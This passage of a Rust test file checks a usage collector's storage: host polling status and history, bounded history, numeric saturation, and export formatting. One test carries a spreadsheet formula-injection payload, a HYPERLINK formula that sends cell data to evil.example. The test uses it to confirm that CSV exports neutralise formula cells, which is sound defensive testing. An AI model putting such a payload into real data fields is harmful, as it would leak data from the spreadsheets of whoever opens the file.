        assert_eq!(last.into_iter().collect::<Vec<_>>(), [("a".to_owned(), 1000), ("b".to_owned(), 2000)]);
    });
}

fn statement(host: &str, nonce: &str) -> HostStatementClaims {
    serde_json::from_value(json!({
        "iss": host, "iat": 100, "exp": 160, "nonce": nonce, "agent_version": "1.0",
        "policy_version": 3, "workloads": [], "gpus": []
    }))
    .unwrap()
}

fn failed(kind: &str) -> PollOutcome {
    PollOutcome::Failed { kind: kind.into(), detail: "x".into() }
}

async fn statements_status_history_and_removal(db: TestDb) {
    let store = db.storage();
    off_runtime(|| {
        for h in ["a", "b"] {
            store.enroll_host(h, &host_key(h).public_key(), 0).unwrap();
        }
        assert!(store.set_agent_url("a", Some("https://a:9477")).unwrap());
        assert!(!store.set_agent_url("zz", Some("https://zz:9477")).unwrap(), "not enrolled");
        let targets = store.poll_targets().unwrap();
        assert_eq!(targets.len(), 1);
        assert_eq!((targets[0].host_id.as_str(), targets[0].agent_url.as_str()), ("a", "https://a:9477"));
        assert_eq!(targets[0].public_key.kid(), "a");
        assert!(store.set_agent_url("a", Some("https://a2:9477")).unwrap());
        assert_eq!(store.agent_urls().unwrap(), [("a".to_owned(), "https://a2:9477".to_owned())]);

        let status = store.host_poll_status().unwrap();
        assert_eq!(status.len(), 2);
        assert_eq!(
            status[1],
            kycd_collector::HostPollStatus {
                host_id: "b".into(),
                last_attempt_at: None,
                last_ok_at: None,
                consecutive_failures: 0,
                last_error: None
            }
        );
        let token = "h.p.s".to_owned();
        store
            .record_poll(
                "a",
                10,
                &PollOutcome::Ok { claims: Box::new(statement("a", "n1")), token: token.clone() },
            )
            .unwrap();
        store.record_poll("a", 20, &failed("timeout")).unwrap();
        store.record_poll("a", 30, &failed("unreachable")).unwrap();
        store.record_poll("ghost", 30, &failed("unreachable")).unwrap();
        let a = &store.host_poll_status().unwrap()[0];
        assert_eq!(
            (a.last_attempt_at, a.last_ok_at, a.consecutive_failures, a.last_error.as_deref()),
            (Some(30), Some(10), 2, Some("unreachable: x"))
        );
        assert!(store.poll_history("ghost", 10).unwrap().is_empty(), "unenrolled hosts leave nothing");
        let history = store.poll_history("a", 10).unwrap();
        assert_eq!(history.len(), 3);
        assert_eq!(history[0], (30, Err("unreachable: x".into())));
        assert_eq!(history[2], (10, Ok(kycd_protocol::token_digest(token.as_bytes()))));
        assert_eq!(store.poll_history("a", 1).unwrap().len(), 1);
        let latest = store.latest_statements().unwrap();
        assert_eq!(latest.len(), 1);
        assert_eq!((latest[0].host_id.as_str(), latest[0].polled_at), ("a", 10));
        assert_eq!(latest[0].claims, statement("a", "n1"));
        assert_eq!(store.latest_token("a").unwrap(), Some(token));
        assert_eq!(store.latest_token("b").unwrap(), None);
        store
            .record_polls(&[
                PollRecord {
                    host_id: "a".into(),
                    polled_at: 40,
                    outcome: PollOutcome::Ok { claims: Box::new(statement("a", "n2")), token: "t2".into() },
                },
                PollRecord { host_id: "b".into(), polled_at: 40, outcome: failed("tls") },
            ])
            .unwrap();
        let status = store.host_poll_status().unwrap();
        assert_eq!(
            (status[0].consecutive_failures, status[0].last_ok_at, status[0].last_error.as_deref()),
            (0, Some(40), None)
        );
        assert_eq!((status[1].consecutive_failures, status[1].last_attempt_at), (1, Some(40)));
        assert_eq!(store.latest_statements().unwrap()[0].claims.nonce, "n2");

        // Removal forgets URL, status and history; re-enrollment starts clean.
        assert!(store.remove_host("a").unwrap());
        assert!(store.poll_targets().unwrap().is_empty());
        assert!(store.latest_statements().unwrap().is_empty(), "no longer listed");
        store.enroll_host("a", &host_key("a").public_key(), 50).unwrap();
        assert!(store.poll_targets().unwrap().is_empty(), "re-enrollment does not resurrect the URL");
        assert!(store.poll_history("a", 10).unwrap().is_empty());
        let a = &store.host_poll_status().unwrap()[0];
        assert_eq!((a.last_attempt_at, a.consecutive_failures), (None, 0));
        assert!(store.set_agent_url("b", Some("https://b")).unwrap());
        assert!(store.set_agent_url("b", None).unwrap());
        assert!(store.agent_urls().unwrap().is_empty());
    });
}

async fn poll_history_is_bounded_per_host(db: TestDb) {
    let store = db.storage();
    off_runtime(|| {
        store.enroll_host("a", &host_key("a").public_key(), 0).unwrap();
        store.enroll_host("b", &host_key("b").public_key(), 0).unwrap();
        let total = POLL_HISTORY_PER_HOST + 50;
        let polls: Vec<PollRecord> = (0..total)
            .map(|i| PollRecord { host_id: "a".into(), polled_at: i64::from(i), outcome: failed("timeout") })
            .collect();
        store.record_polls(&polls[..100]).unwrap();
        store.record_poll("b", 1, &failed("timeout")).unwrap();
        store.record_polls(&polls[100..]).unwrap();
        let history = store.poll_history("a", u32::MAX).unwrap();
        assert_eq!(history.len(), POLL_HISTORY_PER_HOST as usize);
        assert_eq!(history[0].0, i64::from(total - 1));
        assert_eq!(history.last().unwrap().0, i64::from(total - POLL_HISTORY_PER_HOST));
        assert_eq!(store.host_poll_status().unwrap()[0].consecutive_failures, total);
        assert_eq!(store.poll_history("b", u32::MAX).unwrap().len(), 1, "other hosts keep theirs");
    });
}

/// Windows stored before ingest bounded their values (or written by hand) with values near
/// `f64::MAX`: every total saturates at `f64::MAX` instead of becoming `inf`, and neither
/// export format prints `null` or `inf` for a number.
async fn totals_saturate_and_exports_never_print_null_or_inf(db: TestDb) {
    let store = db.storage();
    let t0 = 1_800_000_000 / 60 * 60;
    off_runtime(|| {
        let huge = |seq: u64| {
            let mut w = tenant_window("t", t0, 60, 1e308, 1e308, 8);
            (w.gpu_seconds, w.shared_gpu_seconds, w.guest_gap_gpu_seconds) = (1e308, 1e308, 1e308);
            let record = UsageRecord { seq, last_seq: None, window: w };
            // Not through validation: ingest refuses these now.
            ValidRecord { body_json: serde_json::to_string(&record).unwrap(), last_seq: seq, record }
        };
        store.insert_batch("a", 1, &[huge(1), huge(2), huge(3)], 1000).unwrap();
        store.insert_batch("b", 1, &[huge(1)], 1000).unwrap();
        let usage = store.tenant_usage(None, None).unwrap();
        assert_eq!(usage.len(), 1);
        let u = &usage[0];
        assert_eq!((u.estimated_ops, u.gpu_seconds, u.peak_flops), (f64::MAX, f64::MAX, f64::MAX), "{u:?}");
        // Stored without bounds: both bounds are the estimate, and saturate alike.
        assert_eq!((u.ops_lower, u.ops_upper, u.shared_gpu_seconds), (f64::MAX, f64::MAX, f64::MAX), "{u:?}");
        assert_eq!(u.guest_gap_gpu_seconds, f64::MAX, "{u:?}");
        assert!(u.gpu_hours().is_finite());
        assert_eq!(u.ops_by_method["gpm_tensor"], f64::MAX);
        assert_eq!(u.windows, 4);
        let text = serde_json::to_string(u).unwrap();
        assert!(!text.contains("null"), "{text}");

        let rows = kycd_collector::export::rows(store.as_ref(), 0).unwrap();
        assert_eq!(rows.len(), 1);
        let json = kycd_collector::export::render(&rows, kycd_collector::export::Format::Json).unwrap();
        assert!(!json.contains("null"), "{json}");
        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(parsed[0]["estimated_ops"].as_f64(), Some(f64::MAX));
        assert_eq!(parsed[0]["peak_flops"].as_f64(), Some(f64::MAX));
        let csv = kycd_collector::export::render(&rows, kycd_collector::export::Format::Csv).unwrap();
        assert_finite_csv_numbers(&csv);
        assert!(csv.contains(",1.7976931348623157e308,"), "{csv}");
        // Rows built by hand with non-finite numbers are rendered finite too.
        let mut odd = rows[0].clone();
        (odd.estimated_ops, odd.gpu_hours, odd.peak_flops) = (f64::INFINITY, f64::NAN, f64::NEG_INFINITY);
        (odd.ops_lower, odd.ops_upper, odd.shared_gpu_hours) = (f64::NAN, f64::INFINITY, f64::NEG_INFINITY);
        odd.guest_gap_gpu_hours = f64::NAN;
        let json =
            kycd_collector::export::render(&[odd.clone()], kycd_collector::export::Format::Json).unwrap();
        assert!(!json.contains("null"), "{json}");
        let csv = kycd_collector::export::render(&[odd], kycd_collector::export::Format::Csv).unwrap();
        assert_finite_csv_numbers(&csv);
    });
}

/// The numeric columns of every CSV row (the three operation figures, GPU-hours, shared
/// GPU-hours, GPU-hours without guest telemetry, peak FLOP/s) are finite numbers.
fn assert_finite_csv_numbers(csv: &str) {
    let mut lines = csv.lines();
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    for line in lines {
        let fields: Vec<&str> = line.split(',').collect();
        for column in [
            "ops_lower",
            "estimated_ops",
            "ops_upper",
            "gpu_hours",
            "shared_gpu_hours",
            "guest_gap_gpu_hours",
            "peak_flops",
        ] {
            let value = fields[header.iter().position(|h| *h == column).unwrap()];
            assert!(value.parse::<f64>().is_ok_and(f64::is_finite), "{column} = {value:?} in {line}");
        }
    }
}

/// A tenant id and a legal name that a spreadsheet would evaluate (they come from
/// attestations and host statements): text in the CSV export, exact in JSON.
async fn csv_exports_neutralise_formula_cells_json_keeps_them(db: TestDb) {
    let store = db.storage();
    off_runtime(|| {
        let tenant = "@SUM(1+1)";
        let legal = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Acme\")";
        let w = tenant_window(tenant, 1_800_000_000, 60, 1e17, 8e15, 8);
        store
            .insert_batch("h", 1, &valid(vec![UsageRecord { seq: 1, last_seq: None, window: w }]), 0)
            .unwrap();
        store
            .upsert_tenant_identities(&[TenantIdentity {
                legal_name: legal.into(),
                ..identity(tenant, "", &[], 1)
            }])
            .unwrap();
        let rows = kycd_collector::export::rows(store.as_ref(), 0).unwrap();
        assert_eq!((rows[0].tenant.as_str(), rows[0].legal_name.as_str()), (tenant, legal));
        let csv = kycd_collector::export::render(&rows, kycd_collector::export::Format::Csv).unwrap();
        let row = csv.split("\r\n").nth(1).unwrap();
        assert!(
            row.starts_with(r#"'@SUM(1+1),"'=HYPERLINK(""https://evil.example/?""&A1,""Acme"")",SG,"#),
            "{row}"
        );
        let json = kycd_collector::export::render(&rows, kycd_collector::export::Format::Json).unwrap();
        let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(
            (parsed[0]["tenant"].as_str(), parsed[0]["legal_name"].as_str()),
            (Some(tenant), Some(legal))
        );
    });
}
